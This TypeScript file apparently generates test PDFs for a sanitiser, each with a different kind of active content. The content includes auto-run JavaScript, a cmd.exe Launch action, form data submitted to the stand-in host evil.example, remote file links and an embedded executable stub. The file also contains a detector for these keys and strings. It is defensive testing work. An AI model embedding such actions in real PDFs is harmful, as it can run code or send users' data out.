/** Creates PDFs of one page with a text, each with a different kind of active content. */
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  type PDFObject,
  PDFRawStream,
  PDFStream,
  PDFString,
} from '@cantoo/pdf-lib';

export const SHOWN = 'What the page shows';
/** The text of a filled form field. */
export const FILLED = 'What was filled in';

type Literal = string | number | PDFObject | Literal[] | { [name: string]: Literal };
type Change = (document: PDFDocument, add: (value: Literal) => PDFObject) => void | Promise<void>;

const text = (words: string) => PDFString.of(words);
const script = { Type: 'Action', S: 'JavaScript', JS: text('app.alert(1)') };
const rectangle = [10, 10, 90, 30];

const changes: Record<string, Change> = {
  'a script when it is opened': ({ catalog }, add) => catalog.set(PDFName.of('OpenAction'), add(script)),
  'scripts by name': ({ catalog }, add) =>
    catalog.set(PDFName.of('Names'), add({ JavaScript: { Names: [text('a'), script] } })),
  'scripts of the document and the page': ({ catalog }, add) => {
    catalog.set(PDFName.of('AA'), add({ WC: script, WP: script }));
  },
  'embedded files': (document) => document.attach(Buffer.from('MZ'), 'run.exe', { mimeType: 'text/plain' }),
  'a form that is sent': async (document) => {
    const field = document.getForm().createTextField('total');
    field.setText(FILLED);
    field.addToPage(document.getPage(0), { x: 50, y: 300, width: 200, height: 20 });
    const [widget] = field.acroField.getWidgets();
    const submit = { S: 'SubmitForm', F: text('https://evil.example/') };
    widget?.dict.set(PDFName.of('AA'), document.context.obj({ U: submit, K: script } as never));
    widget?.dict.set(PDFName.of('A'), document.context.obj(submit as never));
  },
};

/** Active annotations. */
const annotations: Record<string, Record<string, Literal>> = {
  'a link to a script': { Subtype: 'Link', A: { S: 'URI', URI: text('javascript:alert(1)') } },
  'a link to a program': {
    Subtype: 'Link',
    A: { S: 'Launch', F: text('cmd.exe'), Win: { F: text('cmd.exe') } },
  },
  'a link to another file': {
    Subtype: 'Link',
    A: { S: 'GoToR', F: text('//evil.example/a.pdf'), D: [0, 'Fit'] },
  },
  'a link into an embedded file': { Subtype: 'Link', A: { S: 'GoToE', T: { R: 'C', N: text('a') } } },
  'a film': { Subtype: 'Screen', A: { S: 'Rendition', JS: text('app.alert(1)'), OP: 0 } },
  'a sound': { Subtype: 'Sound', A: { S: 'Sound', Next: script } },
  'an attached file': {
    Subtype: 'FileAttachment',
    FS: { Type: 'Filespec', F: text('a'), EF: { F: text('b') } },
  },
  'rich media': { Subtype: 'RichMedia', RichMediaContent: { Assets: { Names: [text('a.swf'), script] } } },
  'a data import': { Subtype: 'Widget', FT: 'Btn', A: { S: 'ImportData', F: text('a.fdf') } },
};

/** Active content in the page's resources. */
const drawn: Record<string, Change> = {
  'actions of the page': (document, add) =>
    document.getPage(0).node.set(PDFName.of('AA'), add({ O: script, C: script })),
  'a script among the resources': (document, add) => {
    const resources = document.getPage(0).node.normalizedEntries().Resources;
    resources.set(PDFName.of('Properties'), add({ MC0: { A: script, AA: { O: script } } }));
    resources.set(PDFName.of('A'), add(script));
    resources
      .lookup(PDFName.of('Font'), PDFDict)
      .set(PDFName.of('Odd'), add({ ...script, URI: text('javascript:1') }));
  },
  'the whole document among the resources': (document) => {
    const { catalog, context } = document;
    catalog.set(PDFName.of('OpenAction'), context.obj(script as never));
    const root = context.trailerInfo.Root;
    if (root !== undefined)
      document
        .getPage(0)
        .node.normalizedEntries()
        .Resources.set(PDFName.of('Properties'), context.obj({ All: root }));
  },
  'a program in PostScript and a picture from elsewhere': (document) => {
    const { context } = document;
    const objects = document.getPage(0).node.normalizedEntries().XObject;
    const postscript = context.obj({ Type: 'XObject', Subtype: 'PS' });
    objects.set(PDFName.of('Ps'), context.register(PDFRawStream.of(postscript, Buffer.from('(a) print'))));
    const picture = context.obj({
      Type: 'XObject',
      Subtype: 'Image',
      Width: 1,
      Height: 1,
      F: text('//evil.example/a') as never,
      OPI: script as never,
    });
    objects.set(PDFName.of('Far'), context.register(PDFRawStream.of(picture, Buffer.from('a'))));
  },
};

async function documentWith(change: Change): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage([300, 400]).drawText(SHOWN, { x: 20, y: 350, size: 12 });
  await document.flush();
  await change(document, (value) => document.context.obj(value as never) as PDFObject);
  return document.save({ useObjectStreams: false });
}

/** Returns the PDFs by kind. */
export async function activePdfs(): Promise<Map<string, Uint8Array>> {
  const all = { ...changes, ...drawn };
  for (const [name, annotation] of Object.entries(annotations))
    all[name] = (document, add) =>
      document
        .getPage(0)
        .node.set(
          PDFName.of('Annots'),
          add([{ Type: 'Annot', Rect: rectangle, ...annotation, AA: { E: script } }]),
        );
  return new Map(
    await Promise.all(
      Object.entries(all).map(async ([name, change]) => [name, await documentWith(change)] as const),
    ),
  );
}

const activeKeys = new Set(
  'A AA OpenAction JS JavaScript URI Launch Win Annots AcroForm EmbeddedFiles EF FS RichMediaContent Properties OPI F Next Names AF'.split(
    ' ',
  ),
);

/** Returns the keys in a PDF that could trigger an action, except resource names, which its author chose. */
export async function activeKeysIn(bytes: Uint8Array): Promise<string[]> {
  const { context } = await PDFDocument.load(bytes, { updateMetadata: false });
  const found: string[] = [];
  const look = (object: PDFObject): void => {
    if (object instanceof PDFStream) look(object.dict);
    else if (object instanceof PDFArray) object.asArray().forEach(look);
    else if (object instanceof PDFDict)
      for (const [key, value] of object.entries()) {
        if (activeKeys.has(key.decodeText())) found.push(key.decodeText());
        if (value instanceof PDFString && /javascript|evil|cmd\.exe/.test(value.decodeText()))
          found.push(value.decodeText());
        look(value);
      }
  };
  for (const [, object] of context.enumerateIndirectObjects()) look(object);
  return found;
}
